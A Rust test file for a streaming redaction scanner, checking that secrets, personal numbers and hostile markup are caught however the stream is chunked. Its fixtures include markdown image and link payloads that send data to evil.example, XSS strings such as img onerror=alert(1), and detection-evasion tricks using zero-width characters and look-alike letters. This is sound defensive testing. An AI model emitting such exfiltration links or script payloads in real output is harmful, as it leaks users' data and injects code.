//! The streaming scanner releases exactly what a whole-buffer scan writes, for any chunking.

use proptest::prelude::*;
use rampart_detect::stream::redact_raw;
use rampart_detect::{HashKey, Redactor, Scanner, Strategy, StreamScanner, detectors};

mod common;

fn whole(text: &[u8], strategy: Strategy) -> Vec<u8> {
    let mut out = Vec::new();
    let mut r = Redactor::new(strategy, HashKey::derive(b"k"));
    redact_raw(Scanner::builtin(), text, &mut r, &mut out);
    out
}

fn streamed(text: &[u8], cuts: &[usize], strategy: Strategy) -> Vec<u8> {
    let mut s = StreamScanner::new(
        Scanner::builtin(),
        Redactor::new(strategy, HashKey::derive(b"k")),
    );
    let mut out = Vec::new();
    let mut prev = 0;
    for &c in cuts {
        s.feed(&text[prev..c], &mut out);
        prev = c;
    }
    s.feed(&text[prev..], &mut out);
    s.finish(&mut out);
    out
}

/// All corpora joined into documents of a few KiB: detector examples, faker PII rows,
/// gitleaks cases.
fn corpus() -> &'static Vec<Vec<u8>> {
    static DOCS: std::sync::OnceLock<Vec<Vec<u8>>> = std::sync::OnceLock::new();
    DOCS.get_or_init(|| {
        let mut lines: Vec<String> = detectors::all()
            .flat_map(|d| d.positives.iter().chain(d.negatives.iter()))
            .map(|s| s.to_string())
            .collect();
        lines.extend(common::faker_rows().into_iter().map(|r| r.text));
        lines.extend(common::gitleaks_cases().into_iter().map(|c| c.text));
        let mut docs = Vec::new();
        let mut cur = Vec::new();
        for l in lines {
            cur.extend_from_slice(l.as_bytes());
            cur.push(b'\n');
            if cur.len() > 6000 {
                docs.push(std::mem::take(&mut cur));
            }
        }
        docs.push(cur);
        docs
    })
}

#[test]
fn every_corpus_document_single_byte_chunks() {
    // the hardest chunking: every boundary at once
    for doc in corpus().iter().step_by(7) {
        let cuts: Vec<usize> = (1..doc.len()).collect();
        assert_eq!(
            streamed(doc, &cuts, Strategy::Mask),
            whole(doc, Strategy::Mask)
        );
    }
}

#[test]
fn a_secret_split_at_every_position_is_caught() {
    let text = b"key AKIAZ7QW3RT5YB2KX4LM and ssn 536-90-4399 end";
    let expected = whole(text, Strategy::Mask);
    assert!(!expected.windows(4).any(|w| w == b"AKIA"));
    for cut in 1..text.len() {
        assert_eq!(
            streamed(text, &[cut], Strategy::Mask),
            expected,
            "cut at {cut}"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, .. ProptestConfig::default() })]

    #[test]
    fn random_chunkings_match_whole_buffer(doc_idx in any::<prop::sample::Index>(), mut cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..40), tok in any::<bool>()) {
        let docs = corpus();
        let doc = &docs[doc_idx.index(docs.len())];
        let mut cuts: Vec<usize> = cuts.drain(..).map(|i| i.index(doc.len().max(1))).collect();
        cuts.sort_unstable();
        cuts.dedup();
        let strategy = if tok { Strategy::Tokenize } else { Strategy::Fake };
        prop_assert_eq!(streamed(doc, &cuts, strategy), whole(doc, strategy));
    }
}

#[test]
fn hold_back_is_bounded() {
    let s = StreamScanner::new(
        Scanner::builtin(),
        Redactor::new(Strategy::Mask, HashKey::default()),
    );
    // the longest short pattern plus context: a few hundred bytes, never the whole stream
    assert!(
        s.hold_back() <= 1100,
        "hold-back grew to {} bytes",
        s.hold_back()
    );
    println!("hold-back: {} bytes", s.hold_back());
}

#[test]
fn ordinary_text_is_released_within_a_few_dozen_bytes_and_a_key_in_progress_is_held() {
    let mut s = StreamScanner::new(
        Scanner::builtin(),
        Redactor::new(Strategy::Mask, HashKey::derive(b"k")),
    );
    let mut out = Vec::new();
    let text = "Write a short poem about the sea, the wind and the old lighthouse keeper who waits for ships. ".repeat(20);
    for c in text.as_bytes().chunks(8) {
        s.feed(c, &mut out);
        assert!(s.pending() <= 48, "{} bytes held back", s.pending());
    }
    let key = "ghp_T3ihFtXOOERFx9oM8xWB3WHNxByNaXBhcMNE";
    for c in key.as_bytes().chunks(8) {
        s.feed(c, &mut out);
        assert!(
            !String::from_utf8_lossy(&out).contains("ghp_"),
            "a partial key was released"
        );
    }
    for c in b" and the poem goes on for a while longer.".chunks(8) {
        s.feed(c, &mut out);
    }
    s.finish(&mut out);
    let out = String::from_utf8(out).unwrap();
    assert!(
        !out.contains(key) && out.contains("[REDACTED:SECRET] and the poem"),
        "{out}"
    );
    assert!(out.starts_with("Write a short poem"));
}

#[test]
fn a_value_split_by_invisible_characters_never_leaves_the_stream() {
    for (text, value) in [
        (
            "id AKIA4HBW\u{202c}6E62M7NGFVGF end of the answer",
            "6E62M7NGFVGF",
        ),
        ("ssn 536-90-\u{200b}4399 end of the answer", "4399"),
        (
            "card 4111\u{200b}1111 1111 1111 end of the answer",
            "1111 1111",
        ),
    ] {
        let text = text.as_bytes();
        // every chunking: byte by byte, and cut at each position
        let mut cuts_all: Vec<Vec<usize>> = vec![(1..text.len()).collect()];
        cuts_all.extend((1..text.len()).map(|c| vec![c]));
        for cuts in cuts_all {
            let out = streamed(text, &cuts, Strategy::Mask);
            let out = String::from_utf8_lossy(&out);
            assert!(!out.contains(value), "{out:?} from cuts {cuts:?}");
            assert!(out.contains("end of the answer"), "{out:?}");
        }
    }
    // benign invisible characters pass through unchanged
    let benign = "family 👨\u{200d}👩\u{200d}👧 and می\u{200c}خواهم \u{200f}שלום\u{200e}";
    assert_eq!(
        streamed(benign.as_bytes(), &[9, 10, 11, 20], Strategy::Mask),
        benign.as_bytes()
    );
}

/// Images whose URL carries data (and links whose URL carries a payload), in the forms a
/// renderer accepts: the whole buffer and every split of the stream remove the whole
/// construct, and nothing of the query is left.
#[test]
fn a_removed_image_takes_its_whole_url_in_a_stream_too() {
    for image in [
        "![x](https://evil.example/log?who=zq7wkxv&d=536-90-4399)",
        "![x](https://x.example/a_(b)?who=zq7wkxv)",
        "![x](<https://evil.example/a b?who=zq7wkxv>)",
        "![x](https://evil.example/p?who=zq7wkxv \"title\")",
        "![x](\n  https://evil.example/p?who=zq7wkxv\n  'title'\n)",
        r"![x](https://evil.example/((a))?who=zq7wkxv)",
        "![x][ref]\n\n[ref]: https://evil.example/?who=zq7wkxv \"t\"",
        r#"<img alt="a>b" width=1 src='https://evil.example/p?who=zq7wkxv'>"#,
        "<IMG\nSRC=https://evil.example/p?who=zq7wkxv alt=x>",
        // links and bare URLs whose query carries a payload
        "[click](https://evil.example/v?d=zq7wkxvSmFuZSBEb2UgNTM2LTkwLTQzOTk \"t\")",
        "https://evil.example/c?t=zq7wkxvdGhlIHNlY3JldCB0b2tlbiBpcyBoZXJl",
        // a key inside: the key is its own finding, the rest of the image goes too
        "![x](https://evil.example/p?k=AKIA4HBW6E62M7NGFVGF&who=zq7wkxv)",
    ] {
        let text = format!("Done. {image}\nBye.");
        let out = whole(text.as_bytes(), Strategy::Remove);
        let out = String::from_utf8(out).unwrap();
        assert!(!out.contains("zq7wkxv"), "{image:?} left {out:?}");
        assert!(
            out.starts_with("Done. ") && out.ends_with("\nBye."),
            "{out:?}"
        );
        for cut in 1..text.len() {
            if text.is_char_boundary(cut) {
                let s = streamed(text.as_bytes(), &[cut], Strategy::Remove);
                assert_eq!(String::from_utf8(s).unwrap(), out, "{image:?} cut at {cut}");
            }
        }
    }
    // a plain image and a reference definition without data pass unchanged
    for text in [
        "![logo](https://cdn.example.com/logo.png \"Logo\")",
        "[docs]: https://example.com/docs/page\n",
        "<img src=\"https://cdn.example.com/a.png\" alt=\"a\">",
    ] {
        assert_eq!(whole(text.as_bytes(), Strategy::Remove), text.as_bytes());
    }
}

/// Values written in Unicode digits, full-width forms or look-alike letters are scanned as the
/// ASCII they imitate, at every split of the stream, and non-ASCII text where nothing is found
/// is released byte for byte.
#[test]
fn unicode_digits_and_look_alikes_are_caught_in_a_stream_and_benign_text_is_untouched() {
    for (text, gone) in [
        ("ssn ５３６-９０-４３９９ end of the answer", "４３９９"),
        ("ssn ٥٣٦-٩٠-٤٣٩٩ end of the answer", "٤٣٩٩"),
        (
            "card ４１１１ １１１１ １１１１ １１１１ end of the answer",
            "１１１１ １１１１",
        ),
        (
            "token ghр_T3ihFtXOOERFx9oM8xWB3WHNxByNaXBhcMNE end of the answer",
            "T3ihFtXOOERFx9oM8xWB3WHNxByNaXBhcMNE",
        ),
        (
            "key ＡＫＩＡ４ＨＢＷ６Ｅ６２Ｍ７ＮＧＦＶＧＦ end of the answer",
            "ＮＧＦＶＧＦ",
        ),
    ] {
        let bytes = text.as_bytes();
        let expected = whole(bytes, Strategy::Mask);
        let shown = String::from_utf8_lossy(&expected).into_owned();
        assert!(!shown.contains(gone), "{shown:?}");
        assert!(shown.ends_with(" end of the answer"), "{shown:?}");
        let mut cuts_all: Vec<Vec<usize>> = vec![(1..bytes.len()).collect()];
        cuts_all.extend((1..bytes.len()).map(|c| vec![c]));
        for cuts in cuts_all {
            assert_eq!(
                streamed(bytes, &cuts, Strategy::Mask),
                expected,
                "{text:?} {cuts:?}"
            );
        }
    }
    for benign in [
        "Привет, мир! Сегодня 12 декабря, температура ５ градусов.",
        "東京都の人口は約１４００万人です。電話は受付まで。",
        "العدد ١٢٣ والسنة ٢٠٢٦ — شكرا",
        "Ａｎｓｗｅｒ： ｆｕｌｌ－ｗｉｄｔｈ ｔｅｘｔ ｉｓ ｆｉｎｅ",
        "family 👨\u{200d}👩\u{200d}👧 and می\u{200c}خواهم \u{200f}שלום\u{200e}",
    ] {
        let bytes = benign.as_bytes();
        assert_eq!(whole(bytes, Strategy::Mask), bytes, "{benign}");
        let cuts: Vec<usize> = (1..bytes.len()).collect();
        assert_eq!(streamed(bytes, &cuts, Strategy::Mask), bytes, "{benign}");
    }
}

/// What a markdown renderer does not read as code is not code to the streaming scanner:
/// look-alike and escaped backticks, spans across lines, fences whose info string holds a
/// backtick, and fences left by their list item. Script markup there is found.
#[test]
fn markup_a_renderer_would_run_is_not_taken_for_code() {
    for hostile in [
        "\u{FF40}<img src=x onerror=alert(1)>\u{FF40}",
        "\\` <img src=x onerror=alert(1)> \\`",
        "```x```\n<img src=x onerror=alert(1)>",
        "- a\n  ```\n\n<img src=x onerror=alert(1)>\n",
        "`\n<script>alert(1)</script>`",
        "`a\\` <img src=x onerror=alert(1)> `",
        "- a\n  ```\n`x` <img src=x onerror=alert(1)>",
    ] {
        let mut s = StreamScanner::new(
            Scanner::builtin(),
            Redactor::new(Strategy::Mask, HashKey::default()),
        );
        let mut out = Vec::new();
        for c in hostile.as_bytes().chunks(3) {
            s.feed(c, &mut out);
        }
        s.finish(&mut out);
        assert!(
            s.findings()
                .iter()
                .any(|f| matches!(f.detector, "event_handler" | "script_tag")),
            "{hostile:?}: {}",
            String::from_utf8_lossy(&out)
        );
    }
}
